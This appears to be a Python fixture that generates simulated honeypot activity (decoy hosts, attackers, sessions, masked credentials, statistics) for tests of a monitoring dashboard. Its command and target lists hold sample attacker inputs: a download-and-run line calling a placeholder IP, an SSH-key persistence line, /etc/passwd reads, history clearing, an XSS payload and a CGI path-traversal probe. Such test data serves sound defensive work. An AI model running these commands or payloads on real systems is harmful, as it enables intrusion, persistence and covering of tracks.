"""What a house under attack would answer, made up from a seed, for the tests of the page."""

import random
import uuid
from typing import TypeAlias

Json: TypeAlias = dict[str, object]

SECOND = 1_000_000
MINUTE = 60 * SECOND
HOUR = 60 * MINUTE
DEPTH_WORDS = ("Seen", "Knocked", "Inside", "Acting", "Spreading")
PORTS = {"ssh": 22, "telnet": 23, "http": 80, "https": 443, "ftp": 21, "redis": 6379, "mysql": 3306, "smtp": 25}

ARCHETYPES: tuple[tuple[str, str, tuple[str, ...]], ...] = (
    ("linux-server", "A general server that people log in to.", ("ssh", "http", "ftp")),
    ("web-server", "A web server with a site and a login.", ("http", "https", "ssh")),
    ("database-server", "Databases and a cache.", ("mysql", "redis", "ssh")),
    ("mail-server", "A mail relay.", ("smtp", "ssh", "http")),
    ("iot-device", "A camera or recorder with a telnet door.", ("telnet", "http", "ftp")),
)

COMMANDS = (
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "id",
    "ls -la /tmp",
    "free -m",
    "w",
    "cd /tmp; wget http://198.51.100.7/x.sh; chmod 777 x.sh; sh x.sh",
    'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ mdrfckr" >> ~/.ssh/authorized_keys',
    "crontab -l",
    "cat /etc/passwd",
    "history -c",
    "<img src=x onerror=alert(1)>\u202egnp.exe",
)

TARGETS = ("/", "/wp-login.php", "/.env", "/cgi-bin/.%2e/%2e%2e/bin/sh", "/actuator/health", "/login", "/robots.txt")


def _id(dice: random.Random) -> str:
    return str(uuid.UUID(int=dice.getrandbits(128), version=4))


class House:
    """Deckies, attackers, sessions and events that fit together."""

    def __init__(self, now: int, seed: int = 7, deckies: int = 5, attackers: int = 24, events: int = 400) -> None:
        self.now = now
        self.dice = random.Random(seed)
        self.deckies = [self._decky(number) for number in range(deckies)]
        self.attackers = [self._attacker(number) for number in range(attackers)]
        self.sessions = [self._session(number) for number in range(attackers * 3)]
        self.logs: list[Json] = []
        start = now - 20 * HOUR
        for number in range(events):
            self.logs.append(self.event(number + 1, start + (now - start) * number // max(1, events)))
        self.logs.reverse()
        self.stories = [self._story(attacker) for attacker in self.attackers]
        self.credentials = [self._credential(number) for number in range(40 if attackers else 0)]

    def _decky(self, number: int) -> Json:
        key, _, services = ARCHETYPES[number % len(ARCHETYPES)]
        name = f"decky-{number + 1:02d}"
        failed = number == 3
        return {
            "decky_id": _id(self.dice),
            "name": name,
            "address": f"127.10.{number // 200}.{number % 200 + 10}",
            "archetype": key,
            "distro": "debian",
            "hostname": f"{key.split('-', maxsplit=1)[0]}{number + 1:02d}",
            "persona": f"Debian GNU/Linux 12 (bookworm)\nhost name  {key}-{number + 1}\nkernel     6.1.0-18-amd64\n"
            "OpenSSH    9.2p1 Debian-2+deb12u2\nnginx      1.22.1\nusers      root, deploy, backup",
            "services": [
                {
                    "name": service,
                    "number": PORTS[service],
                    "port": PORTS[service] + 10000,
                    "tls": service == "https",
                    "transport": "tcp",
                    "wanted": True,
                    "actual": "failed" if failed and index == 1 else "serving",
                    "error": "Address already in use" if failed and index == 1 else None,
                }
                for index, service in enumerate(services)
            ],
            "wanted": "running",
            "actual": "degraded" if failed else "running",
            "drift": failed,
            "last_error": "22: Address already in use" if failed else None,
            "depth": (3, 1, 4, 0, 2)[number % 5],
            "live_sessions": (2, 0, 1, 0, 0)[number % 5],
            "last_touched": None if number % 5 == 3 else self.now - number * 7 * MINUTE,
            "next_mutation": None,
            "created_at": self.now - 48 * HOUR,
        }

    def _attacker(self, number: int) -> Json:
        depth = (4, 3, 3, 2, 1, 1, 1, 0)[number % 8] if number < 8 else (1, 0, 0, 1, 2)[number % 5]
        peer = "2001:db8:85a3:8d3:1319:8a2e:370:7348" if number == 2 else f"203.0.113.{number + 9}"
        touched = self.deckies[: 1 + number % 3]
        last = self.now - (number * number * 3 + 36) * 20 * SECOND
        return {
            "uuid": _id(self.dice),
            "peer": peer,
            "first_seen": last - (number + 1) * 13 * MINUTE,
            "last_seen": last,
            "sessions": 3 + number % 7,
            "events": 17 * (number + 3),
            "credentials": 5 * (number % 6),
            "commands": 41 if depth >= 3 else 0,
            "files": 3 if depth >= 3 else 0,
            "deckies": [str(decky["name"]) for decky in touched],
            "services": [["ssh", "mysql"], ["http"], ["redis", "ssh", "ftp"], ["telnet"], ["smtp", "https"]][
                number % 5
            ],
            "is_traversal": number % 3 > 0,
            "depth": depth,
            "ours": "simulated" if number == 5 else "",
            "sparkline": [self.dice.randint(0, 9) * self.dice.randint(0, 3) for _ in range(24)],
        }

    def _session(self, number: int) -> Json:
        attacker = self.attackers[number % len(self.attackers)]
        decky = self.deckies[number % len(self.deckies)]
        service = ("ssh", "http", "redis", "telnet", "mysql", "smtp", "ssh")[number % 7]
        started = self.now - number * 11 * MINUTE - 40 * SECOND
        live = number < 4
        recording = {"ssh": "live" if live else "recorded", "telnet": "skipped"}.get(service, "none")
        return {
            "sid": _id(self.dice),
            "decky_id": decky["decky_id"],
            "decky": decky["name"],
            "service": service,
            "peer": attacker["peer"],
            "peer_port": 40000 + number,
            "local_port": PORTS[service],
            "attacker_uuid": attacker["uuid"],
            "started": started,
            "ended": None if live else started + 95 * SECOND,
            "duration": None if live else 95 * SECOND,
            "reason": None if live else "visitor",
            "bytes_in": 2104 + number,
            "bytes_out": 18_230 + number * 31,
            "events": 14 + number % 9,
            "commands": 12 if service == "ssh" else 0,
            "credentials": 2,
            "files": number % 2,
            "depth": (3, 1, 2, 0)[number % 4],
            "recording": recording,
            "recording_reason": "disk" if recording == "skipped" else None,
            "ours": attacker["ours"],
        }

    def event(self, seq: int, at: int) -> Json:
        """One event of some session."""
        session = self.sessions[self.dice.randrange(len(self.sessions))] if self.sessions else None
        kind, fact, secret = self._fact(str(session["service"]) if session else "ssh")
        return {
            "seq": seq,
            "id": _id(self.dice),
            "at": at,
            "kind": kind,
            "fact": fact,
            "secret": secret,
            "decky_id": session["decky_id"] if session else None,
            "decky": session["decky"] if session else None,
            "service": session["service"] if session else None,
            "peer": session["peer"] if session else None,
            "peer_port": session["peer_port"] if session else None,
            "local_port": session["local_port"] if session else None,
            "session": session["sid"] if session else None,
            "ours": session["ours"] if session else "",
        }

    def _fact(self, service: str) -> tuple[str, Json, list[str]]:
        dice = self.dice
        if dice.random() < 0.25:
            return (
                "credential.offered",
                {
                    "principal": dice.choice(("root", "admin", "pi", "oracle")),
                    "secret": "***",
                    "accepted": dice.random() < 0.3,
                    "mechanism": "password",
                    "secret_kind": "plain",
                    "challenge": "",
                },
                ["secret"],
            )
        if service in ("http", "https"):
            return (
                "request.received",
                {
                    "method": "GET",
                    "target": dice.choice(TARGETS),
                    "version": "HTTP/1.1",
                    "host": "portal.example",
                    "user_agent": "Mozilla/5.0 zgrab/0.x",
                    "headers": '[["Host","portal.example"],["Accept","*/*"]]',
                    "body": "",
                    "body_size": 0,
                    "status": dice.choice((200, 404, 403)),
                    "effect": "read",
                },
                [],
            )
        if service == "mysql":
            return (
                "query.received",
                {"statement": "SELECT user, authentication_string FROM mysql.user", "effect": "read", "error": ""},
                [],
            )
        if dice.random() < 0.12:
            return "file.captured", {"path": "/tmp/x.sh", "sha256": "9f3c" * 16, "size": 2104, "stored": 2104}, []
        if dice.random() < 0.1:
            return "session.started", {}, []
        return "command.issued", {"line": dice.choice(COMMANDS), "effect": dice.choice(("read", "write"))}, []

    def _story(self, attacker: Json) -> Json:
        depth = attacker["depth"]
        assert isinstance(depth, int)
        deckies = attacker["deckies"]
        assert isinstance(deckies, list)
        sentence = (
            f"connected to {deckies[0]}",
            f"tried 12 passwords on {deckies[0]}",
            f"logged in as root on {deckies[0]}",
            f"41 commands, 3 files on {deckies[0]}",
            f"carried root / ***** from {deckies[0]} to {deckies[-1]}",
        )[depth]
        proofs = [
            {
                "depth": step,
                "at": self.now - (5 - step) * 9 * MINUTE,
                "event_id": _id(self.dice),
                "seq": 20 + step,
                "kind": (
                    "session.started",
                    "credential.offered",
                    "credential.offered",
                    "command.issued",
                    "credential.offered",
                )[step],
                "text": DEPTH_WORDS[step],
                "decky": deckies[0],
                "service": "ssh",
            }
            for step in range(depth + 1)
        ]
        return {
            "id": _id(self.dice),
            "depth": depth,
            "depth_word": DEPTH_WORDS[depth],
            "sentence": sentence,
            "actor": {"kind": "address", "peer": attacker["peer"], "attacker_uuid": attacker["uuid"]},
            "facts": {
                "commands": attacker["commands"],
                "credentials": attacker["credentials"],
                "files": attacker["files"],
                "deckies": len(deckies),
                "services": 2,
                "sessions": 3,
            },
            "deckies": deckies,
            "services": attacker["services"],
            "first_seen": attacker["first_seen"],
            "last_seen": attacker["last_seen"],
            "state": "open",
            "muted_until": None,
            "muted_depth": None,
            "proofs": proofs,
            "ours": attacker["ours"],
            "sparkline": attacker["sparkline"],
        }

    def _credential(self, number: int) -> Json:
        attacker = self.attackers[number % len(self.attackers)]
        last = self.now - number * 17 * MINUTE
        return {
            "id": _id(self.dice),
            "principal": ("root", "admin", "oracle", "pi")[number % 4],
            "secret": "***",
            "secret_hash": f"{(number % 11 + 1) * 0x1F3A5C7E9B1:012x}"[:12],
            "secret_kind": "mysql_native_password" if number % 9 == 5 else "plain",
            "service": ("ssh", "mysql", "ftp", "telnet", "http")[number % 5],
            "decky": self.deckies[number % len(self.deckies)]["name"],
            "peer": attacker["peer"],
            "attempts": 1 + number % 7,
            "accepted": number % 6 == 0,
            "first_seen": last - HOUR,
            "last_seen": last,
            "reuse": {"targets": 1 + number % 4},
            "ours": attacker["ours"],
        }

    def stats(self) -> Json:
        """The figures of the house."""
        depths = {str(depth): sum(story["depth"] == depth for story in self.stories) for depth in range(5)}
        deep = sum(depths[str(depth)] for depth in (2, 3, 4))
        return {
            "now": self.now,
            "quiet_since": None if deep else self.now - 3 * HOUR,
            "events_total": len(self.logs),
            "events_last_minute": 34 if self.logs else 0,
            "attackers": len(self.attackers),
            "sessions": len(self.sessions),
            "live_sessions": sum(item["ended"] is None for item in self.sessions),
            "credentials": len(self.credentials),
            "deckies": {"deployed": len(self.deckies), "active": max(0, len(self.deckies) - 1)},
            "depths": depths,
            "needs_you": deep,
            "sensors": [
                {
                    "name": "main",
                    "boot": "b1",
                    "last_heartbeat": self.now - SECOND,
                    "alive": True,
                    "version": "1.0",
                    "intake_lag_events": 3,
                }
            ],
            "spool_bytes": 48_300_000,
            "disk_free_bytes": 61_000_000_000,
            "disk_total_bytes": 158_000_000_000,
            "database_bytes": 92_000_000,
            "poison": 0,
            "quarantined_lines": 0,
            "recordings_stopped": False,
            "clock": self.now,
            "demo_events": 40,
        }

    def histogram(self, since: int, until: int, by: str) -> Json:
        """Events by minute."""
        series: dict[str, dict[int, int]] = {}
        for item in self.logs:
            at = item["at"]
            assert isinstance(at, int)
            if since <= at <= until:
                buckets = series.setdefault(str(item[by] or ""), {})
                buckets[at // (15 * MINUTE) * 15 * MINUTE] = buckets.get(at // (15 * MINUTE) * 15 * MINUTE, 0) + 1
        return {
            "interval": "15m",
            "since": since,
            "until": until,
            "series": [
                {"key": key, "total": sum(buckets.values()), "buckets": sorted(buckets.items())}
                for key, buckets in series.items()
            ],
        }
